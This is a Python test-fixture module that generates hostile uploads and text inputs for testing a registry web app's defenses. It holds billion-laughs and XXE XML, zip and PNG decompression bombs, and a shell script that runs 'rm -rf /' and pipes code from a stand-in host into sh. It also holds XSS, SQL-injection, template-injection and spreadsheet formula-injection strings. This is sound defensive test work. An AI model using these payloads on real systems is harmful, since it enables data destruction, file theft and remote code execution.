"""The hostile-input corpus, generated in code (nothing binary is committed): files that attack a reader, texts
that attack a page, a query or a spreadsheet, and numbers a parser may choke on. tests/test_hostile_corpus.py sends
them through the pages, the API and the imports.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

import openpyxl

# Every part of a workbook an XML attack may sit in (the reader checks each before parsing).
XLSX_PARTS = ["[Content_Types].xml", "xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml",
              "xl/styles.xml", "docProps/core.xml", "docProps/app.xml", "xl/_rels/workbook.xml.rels"]  # fmt: skip

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>'
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;</t></si></sst>'
)

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00" + b"\x00" * 200
SHELL = b"#!/bin/sh\nrm -rf / --no-preserve-root\ncurl http://evil.example/x | sh\n"


@functools.cache
def workbook() -> bytes:
    """A plain, valid 附件2-like workbook: the base every crafted one starts from."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "湖塘镇"
    ws.append(["序号", "企业名称", "行业类别", "详细地址"])
    ws.append([1, "张三塑料造粒作坊", "塑料造粒", "湖塘镇新华村"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def with_part(name: str, content: bytes) -> bytes:
    """The workbook with one part replaced (or added)."""
    src = zipfile.ZipFile(io.BytesIO(workbook()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            if item.filename != name:
                z.writestr(item.filename, src.read(item.filename))
        z.writestr(name, content)
    return out.getvalue()


@functools.cache
def zip_bomb() -> bytes:
    """An xlsx whose sheet part decompresses to 1 GiB (of a few MB on disk)."""
    out = io.BytesIO()
    src = zipfile.ZipFile(io.BytesIO(workbook()))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for item in src.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                z.writestr(item.filename, src.read(item.filename))
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            chunk = b" " * (16 << 20)
            for _ in range(64):
                part.write(chunk)
    return out.getvalue()


def nested_zip(depth: int = 12) -> bytes:
    """A zip in a zip in a zip …, named like a workbook part at each level."""
    data = b"x" * 1024
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(f"xl/worksheets/sheet{level}.xlsx", data)
        data = out.getvalue()
    return data


def sheet_xml(rows: str, dimension: str = "A1") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    ).encode()


def huge_dimension() -> bytes:
    return with_part("xl/worksheets/sheet1.xml", sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>', "A1:XFD1048576"))


def far_cell() -> bytes:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return with_part("xl/worksheets/sheet1.xml", sheet_xml(rows))


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(width: int, height: int, idat: bytes | None = None) -> bytes:
    """A PNG header declaring width × height (8-bit grey), with the given (or a tiny) image stream."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    stream = idat if idat is not None else zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", stream) + _png_chunk(b"IEND", b"")


@functools.cache
def png_decompression_bomb() -> bytes:
    """A real, complete 12,000 × 12,000 PNG (144 million pixels) of about 140 KB."""
    side = 12_000
    compressor = zlib.compressobj(9)
    row = b"\x00" * (side + 1)
    stream = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    return png(side, side, stream)


def jpeg(width: int, height: int) -> bytes:
    """A JPEG whose frame header declares width × height (the rest a minimal, broken scan)."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + sof + b"\xff\xd9"


def hostile_sheets() -> dict[str, tuple[bytes, str]]:
    """Name → (bytes, file name) of every hostile spreadsheet upload."""
    files = {
        "zip bomb": (zip_bomb(), "名单.xlsx"),
        "nested zips": (nested_zip(), "名单.xlsx"),
        "huge dimension": (huge_dimension(), "名单.xlsx"),
        "cell at row 1048576": (far_cell(), "名单.xlsx"),
        "ELF as xlsx": (ELF, "名单.xlsx"),
        "PE as xlsx": (PE, "名单.xlsx"),
        "shell script as csv": (SHELL, "名单.csv"),
        "PE as xls": (PE, "名单.xls"),
        "empty": (b"", "名单.xlsx"),
    }
    for part in XLSX_PARTS:
        files[f"billion laughs in {part}"] = (with_part(part, BILLION_LAUGHS), "名单.xlsx")
        files[f"external entity in {part}"] = (with_part(part, EXTERNAL_ENTITY), "名单.xlsx")
    return files


def hostile_images() -> dict[str, tuple[bytes, str]]:
    """Name → (bytes, file name) of every hostile photo upload."""
    return {
        "PNG declaring 60000x60000": (png(60_000, 60_000), "现场.png"),
        "JPEG declaring 60000x60000": (jpeg(60_000, 60_000), "现场.jpg"),
        "PNG decompression bomb": (png_decompression_bomb(), "现场.png"),
        "ELF as jpg": (ELF, "现场.jpg"),
        "PE as jpg": (PE, "现场.jpg"),
        "shell script as jpg": (SHELL, "现场.jpg"),
        "xlsx as jpg": (workbook(), "现场.jpg"),
        "zip bomb as jpg": (zip_bomb(), "现场.jpg"),
        "empty": (b"", "现场.jpg"),
    }


def hostile_documents() -> dict[str, tuple[bytes, str]]:
    """Name → (bytes, file name) of every hostile work-plan upload (a .docx is a zip as an xlsx is)."""
    return {
        "ELF as docx": (ELF, "工作方案.docx"),
        "PE as pdf": (PE, "工作方案.pdf"),
        "shell script as docx": (SHELL, "工作方案.docx"),
        "zip bomb as docx": (zip_bomb(), "工作方案.docx"),
        "nested zips as docx": (nested_zip(), "工作方案.docx"),
        "billion laughs as docx": (with_part("word/document.xml", BILLION_LAUGHS), "工作方案.docx"),
    }


SCRIPT = "<script>alert('xss')</script>"
# Text that attacks a page, a query, a template or a spreadsheet: each is stored harmlessly and shown escaped.
HOSTILE_TEXTS = {
    "script": SCRIPT,
    "attribute break": '"><img src=x onerror=alert(1)>',
    "sql": "'; DROP TABLE registry_case; --",
    "template": "{{ request.user.password }}{% debug %}",
    "formula cmd": "=cmd|' /C calc'!A0",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "nul": "张三\x00作坊",
    "bidi override": "张三作坊\u202egpj.exe",
    "c1 controls": "张三\x85\x9b作坊",
}
FORMULA_STARTS = ("=", "+", "-", "@")
MEGABYTE_TEXT = "字" * (1 << 20)  # 1 MB of characters (3 MB as UTF-8)
# Numbers a parser may turn into something unstorable; JSON carries the non-finite ones as bare words.
HOSTILE_NUMBERS = ["NaN", "Infinity", "-Infinity", "1e309", "-1e309", "-0", "1" + "0" * 40, "-" + "9" * 40,
                   "0x10", "1_000", "١٢", "1e-400"]  # fmt: skip
